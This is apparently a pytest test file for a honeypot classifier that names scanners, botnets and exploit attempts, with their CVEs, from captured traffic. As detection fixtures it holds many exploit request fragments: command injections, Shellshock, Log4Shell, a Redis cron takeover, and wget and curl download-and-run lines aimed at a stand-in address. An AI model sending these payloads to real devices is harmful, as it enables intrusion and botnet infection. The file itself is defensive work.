"""Tools and steps are named by the bytes that show them, and nothing is named where nothing shows."""

import re
import time

import pytest

from honeyguide.streams.conversation import Conversation, Turn
from honeyguide.streams.service_scan import service_scan
from honeyguide.streams.tools import SCANNER, Sighting, identify_tools, signatures


def sent(data: bytes, port: int = 0) -> Conversation:
    return Conversation((Turn("in", data),), local_port=port)


def seen(data: bytes, port: int = 0) -> list[tuple[str, str]]:
    return [(sighting.tool, sighting.step) for sighting in identify_tools(sent(data, port))]


COOKIE = b"\x03\0\0\x22\x1d\xe0\0\0\0\0\0Cookie: mstshash=%s\r\n"
FATAL = b"\x01\0\0\0\0\xcd" + b"A" * 205


def test_a_replaced_word_is_shown_with_its_bytes() -> None:
    (sighting,) = identify_tools(sent(COOKIE % b"beio"))
    assert sighting.tool == SCANNER
    assert sighting.step == "probe: RDP cookie, its own word 'nmap' replaced by 'beio'"
    assert sighting.token == "beio"
    assert 0.5 <= sighting.certainty <= 0.7
    assert sent(COOKIE % b"beio").inbound[sighting.start : sighting.end] == b"Cookie: mstshash=beio\r\n"


def test_the_scanners_own_word_is_surer() -> None:
    first = identify_tools(sent(COOKIE % b"nmap"))[0]
    assert (first.tool, first.step, first.token, first.certainty) == (SCANNER, "probe: RDP cookie", "nmap", 0.9)


def test_a_word_known_from_elsewhere_is_found_and_nothing_more_is_claimed() -> None:
    (sighting,) = identify_tools(sent(b"\x07\x99nonebeio\x00"), tokens=("beio",))
    assert (sighting.tool, sighting.step, sighting.start, sighting.end) == (SCANNER, "unidentified, carries the token beio", 6, 10)


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"GET /nice%20ports%2C/Tri%6Eity.txt%2ebak HTTP/1.0\r\n\r\n", (SCANNER, "probe: a page that isn't there")),
        (b"GET /robots.txt HTTP/1.1\r\nUser-Agent: masscan/1.3 (https://x)\r\n\r\n", ("masscan", "names itself")),
        (b"GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n\r\n", ("zgrab", "names itself")),
        (b"GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (compatible; CensysInspect/1.1)\r\n\r\n", ("Censys", "names itself")),
        (b"MGLNDD_192.0.2.1_443\n", ("Magellan (MGLNDD)", "names address and port of its target")),
        (b"root\r\nroot\r\nenable\r\nsystem\r\nshell\r\nsh\r\n", ("Mirai and kin", "asks for a shell behind a login")),
        (b"GET /shell?cd+/tmp;wget+http://192.0.2.7/Mozi.a+-O+x HTTP/1.1\r\n\r\n", ("Mozi", "download of its binary")),
        (b"POST / HTTP/1.1\r\n\r\n0x%5B%5D=androxgh0st", ("AndroxGh0st", "its mark")),
        (b'POST /mcp HTTP/1.1\r\n\r\n{"method":"initialize","params":{"protocolVersion":"1"}}', ("MCP client", "initialize")),
        (b"OPTIONS sip:100@192.0.2.1 SIP/2.0\r\nUser-Agent: friendly-scanner\r\n\r\n", ("SIPVicious", "names itself")),
    ],
)
def test_tools_are_named(data: bytes, expected: tuple[str, str]) -> None:
    assert expected in seen(data)


@pytest.mark.parametrize(
    ("data", "cve"),
    [
        (b"GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array HTTP/1.1\r\n\r\n", "CVE-2018-20062"),
        (b"POST /HNAP1/ HTTP/1.0\r\nSOAPAction: http://purenetworks.com/HNAP1/`x`\r\n\r\n", "CVE-2015-2051"),
        (b"POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\n\r\n", "CVE-2017-9841"),
        (b"GET / HTTP/1.1\r\nContent-Type: %{(#_='multipart/form-data').(#x=@ognl.OgnlContext@X)}\r\n\r\n", "CVE-2017-5638"),
        (b"POST /?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x HTTP/1.1\r\n\r\n", "CVE-2022-22965"),
        (b"GET / HTTP/1.1\r\nUser-Agent: () { :;}; echo\r\n\r\n", "CVE-2014-6271"),
        (b"POST /GponForm/diag_Form?images/ HTTP/1.1\r\n\r\n", "CVE-2018-10561"),
        (b"POST /picsdesc.xml HTTP/1.1\r\n\r\n<NewInternalClient>`x`</NewInternalClient>", "CVE-2014-8361"),
        (b"GET /cgi-bin/kerbynet?Section=NoAuthREQ&Action=x509List HTTP/1.1\r\n\r\n", "CVE-2019-12725"),
        (b"GET /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp HTTP/1.1\r\n\r\n", "CVE-2020-5902"),
        (b"GET /vpn/../vpns/cfg/smb.conf HTTP/1.1\r\n\r\n", "CVE-2019-19781"),
        (b"GET /%24%7B%28%23a%3D1%29%7D/ HTTP/1.1\r\n\r\n", "CVE-2022-26134"),
        (b"GET /autodiscover/autodiscover.json?@x.y/mapi/nspi HTTP/1.1\r\n\r\n", "CVE-2021-34473"),
        (b"GET /set_ftp.cgi?loginuse=&loginpas=&svr=%24%28id%29 HTTP/1.1\n\n", "CVE-2017-18377"),
        (b"*3\r\n$4\r\neval\r\n$20\r\npackage.loadlib(...)\r\n$1\r\n0\r\n", "CVE-2022-0543"),
    ],
)
def test_exploits_are_named_with_their_cve(data: bytes, cve: str) -> None:
    assert cve in [sighting.cve for sighting in identify_tools(sent(data))]


def test_a_cron_line_through_redis_is_a_takeover() -> None:
    data = b"*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$3\r\ndir\r\n$16\r\n/var/spool/cron/\r\n"
    assert ("Redis", "takeover: cron or key through CONFIG SET dir") in seen(data)


def test_what_hangs_dionaea_is_named_on_mongodbs_port_only() -> None:
    (sighting,) = [one for one in identify_tools(sent(FATAL, 27017)) if "DIO-MONGO-LENGTH" in one.step]
    assert (sighting.start, sighting.end) == (1, 5)
    assert seen(FATAL, 104) == []


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"GET /index.html HTTP/1.1\r\nHost: example.org\r\nUser-Agent: Mozilla/5.0 (X11) Firefox/120.0\r\nAccept: */*\r\n\r\n",
        b"EHLO mail.example.org\r\nMAIL FROM:<a@example.org>\r\n",
        b"USER alice\r\nPASS correct horse\r\nRETR report.pdf\r\n",
        b"*2\r\n$3\r\nGET\r\n$5\r\nshell\r\n",
        b"the maps of nmapper and wgetter",
        bytes(range(256)) * 8,
    ],
)
def test_ordinary_bytes_name_nobody(data: bytes) -> None:
    assert seen(data) == []


def test_ranges_lie_in_the_bytes_and_certainties_between_none_and_all() -> None:
    data = b"GET /nice%20ports%2C/Tri%6Eity.txt%2ebak HTTP/1.0\r\nX: ${jndi:ldap://192.0.2.7/a} wget http://x/Mozi.m; androxgh0st\r\n\r\n"
    found = identify_tools(sent(data))
    assert len(found) >= 4
    assert [one.certainty for one in found] == sorted((one.certainty for one in found), reverse=True)
    for one in found:
        assert 0 <= one.start < one.end <= len(data)
        assert 0 < one.certainty < 1


def test_every_signature_is_complete() -> None:
    for signature in signatures():
        assert signature.tool
        assert signature.step
        assert 0.3 <= signature.certainty <= 0.99
        assert signature.cve == "" or signature.cve.startswith("CVE-")
        assert not signature.own or "token" in signature.pattern.groupindex


PROBES = (b"\r\n\r\n", b"GET / HTTP/1.0\r\n\r\n", b"OPTIONS / RTSP/1.0\r\n\r\n", b"\x01default\n", COOKIE % b"beio", b"HELP\r\n")


def test_many_probes_are_a_scan_and_its_disguise_is_named() -> None:
    scan = service_scan(sighting for probe in PROBES for sighting in identify_tools(sent(probe)))
    assert scan is not None
    assert (scan.token, scan.disguised) == ("beio", True)
    assert len(scan.probes) == 6
    assert scan.certainty >= 0.95


def test_three_probes_are_no_scan_yet() -> None:
    assert service_scan(sighting for probe in PROBES[:3] for sighting in identify_tools(sent(probe))) is None


def test_a_scan_under_its_own_name_is_not_disguised() -> None:
    probes = (*PROBES[:4], COOKIE % b"nmap")
    scan = service_scan(sighting for probe in probes for sighting in identify_tools(sent(probe)))
    assert scan is not None
    assert (scan.token, scan.disguised) == ("nmap", False)


def test_a_scan_needs_the_scanners_sightings() -> None:
    assert service_scan([Sighting("curl", f"step {number}", 0.9) for number in range(9)]) is None


@pytest.mark.parametrize(
    ("data", "step"),
    [
        (b"GET /x?a=;curl+http://192.0.2.7/x;sh HTTP/1.1\r\n\r\n", "exploit: command in a request: download and run"),
        (b"*3\r\n$9\r\nreplicaof 192.0.2.7", "takeover: replication from the attacker"),
        (b"GET /cgi-bin/x HTTP/1.1\r\nUser-Agent: (){ :; }; /bin/id\r\n\r\n", "exploit: Shellshock"),
        (b"USER root\r\nPASS juantech\r\n", "default login of cameras, as in Mirai's list"),
    ],
)
def test_every_form_of_a_pattern_is_tried(data: bytes, step: str) -> None:
    assert step in [sighting.step for sighting in identify_tools(sent(data))]


@pytest.mark.parametrize(
    ("data", "cve"),
    [
        (b"GET / HTTP/1.1\r\nReferer: () { _; } >_[$($())] { id; }\r\n\r\n", "CVE-2014-6278"),
        (b"POST /template/aui/text-inline.vm HTTP/1.1\r\n\r\nlabel=x", "CVE-2023-22527"),
        (b"GET /$%7B@java.lang.Runtime@getRuntime().exec(%22id%22)%7D/ HTTP/1.1\r\n\r\n", "CVE-2022-26134"),
        (b"GET /catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22x%22%7d HTTP/1.1\r\n\r\n", "CVE-2022-22954"),
        (b"PUT /api/v2/cmdb/system/admin/admin HTTP/1.1\r\nUser-Agent: Report Runner\r\n\r\n", "CVE-2022-40684"),
        (b"GET /securityRealm/user/admin/descriptorByName/x.SecureGroovyScript/checkScript?value=x HTTP/1.1\r\n\r\n", "CVE-2018-1000861"),
        (b"GET /adv,/cgi-bin/weblogin.cgi?username=admin';ls%20%23 HTTP/1.1\r\n\r\n", "CVE-2020-9054"),
        (b"POST /cgi-bin/ViewLog.asp HTTP/1.1\r\n\r\nremote_submit_Flag=1&remote_host=%3bid;%23", "CVE-2017-18368"),
        (b"GET /shell?cd+/tmp;sh+x HTTP/1.1\r\n\r\n", "CVE-2016-20016"),
        (b"POST /UD/act?1 HTTP/1.1\r\n\r\n<NewNTPServer1>`id`</NewNTPServer1>", "CVE-2016-10372"),
        (b"GET /cgi-bin/;id HTTP/1.1\r\n\r\n", "CVE-2016-6277"),
        (b"GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id&curpath=/ HTTP/1.1\r\n\r\n", "CVE-2024-12847"),
        (b"GET /goform/setUsbUnload/?deviceName=;id HTTP/1.1\r\n\r\n", "CVE-2020-10987"),
        (b"POST /cgi-bin/mainfunction.cgi HTTP/1.1\r\n\r\naction=login&keyPath=%27%0Aid%0A%27", "CVE-2020-8515"),
        (b"POST /cgi-bin/system_mgr.cgi? HTTP/1.1\r\n\r\ncmd=cgi_ntp_time&f_ntp_server=`id`", "CVE-2020-25506"),
        (b"POST /goform/formWsc HTTP/1.1\r\n\r\nsubmit-url=%2Fwlwps.asp&peerPin=12345678;id;", "CVE-2021-35395"),
        (b"POST /goform/set_LimitClient_cfg HTTP/1.1\r\n\r\nmac=;id;", "CVE-2023-26801"),
        (b"POST /cgi?2&7 HTTP/1.1\r\n\r\n[IPPING_DIAG#0,0]0,6\r\nhost=$(id)", "CVE-2021-41653"),
        (b"POST /cgi-bin/luci/;stok=/locale?form=country HTTP/1.1\r\n\r\noperation=write&country=$(id)", "CVE-2023-1389"),
        (b"POST /hax?jsp=/app/rest/users;.jsp HTTP/1.1\r\n\r\n", "CVE-2024-27198"),
        (b"GET / HTTP/1.1\r\nRange: bytes=0-18446744073709551615\r\n\r\n", "CVE-2015-1635"),
        (b"POST /x HTTP/1.1\r\n\r\nAT&TFORM\0\0\0\x10DJVMDIRM(metadata x)", "CVE-2021-22205"),
        (b"\0\0\0\x70\x1f\0\0\0\0\x01\x01\0\x42org.springframework.context.support.ClassPathXmlApplicationContext", "CVE-2023-46604"),
        (b"\x03\0\0\x40MS_T120\0\0\0\0\0", "CVE-2019-0708"),
    ],
)
def test_exploits_of_devices_and_servers_are_named_with_their_cve(data: bytes, cve: str) -> None:
    assert cve in {sighting.cve for sighting in identify_tools(sent(data))}


@pytest.mark.parametrize(
    "data",
    [
        b"GET /shell?id=5 HTTP/1.1\r\n\r\n",
        b"GET /cgi-bin/ViewLog.asp?remote_host=192.0.2.1 HTTP/1.1\r\n\r\n",
        b"GET /setup.cgi?todo=save HTTP/1.1\r\n\r\n",
        b"GET / HTTP/1.1\r\nRange: bytes=0-1023\r\n\r\n",
        b"GET /$(document).ready HTTP/1.1\r\n\r\n",
        b"POST /goform/formWsc HTTP/1.1\r\n\r\npeerPin=12345670&setPIN=Start",
    ],
)
def test_what_only_looks_like_an_exploit_has_no_cve(data: bytes) -> None:
    assert not {sighting.cve for sighting in identify_tools(sent(data))} - {""}


@pytest.mark.parametrize("name", [b"root", b"test", b"john", b"Administr", b"hello", b"a"])
def test_a_login_name_in_an_rdp_cookie_is_no_disguise(name: bytes) -> None:
    assert not seen(COOKIE % name)


@pytest.mark.parametrize("filler", [b"", b"a", b"=", b"; ", b"/"])
def test_no_signature_is_slow_on_bytes_that_are_written_against_it(filler: bytes) -> None:
    """The literal that a pattern begins with, again and again: a window behind it that is searched each time would take seconds."""
    for signature in signatures():
        pattern = re.sub(rb"^\(\?\w+\)", b"", signature.pattern.pattern)
        begin = re.match(rb"(?:[\w /:<=,-]|\\[./?-])*", pattern)
        assert begin is not None
        seed = (begin[0].replace(b"\\", b"") or signature.needle or b"$") + filler
        data = (signature.needle + b" " + seed * (65536 // len(seed)))[:65536]
        began = time.process_time()
        signature.pattern.search(data)
        assert time.process_time() - began < 0.4, (signature.tool, signature.step)
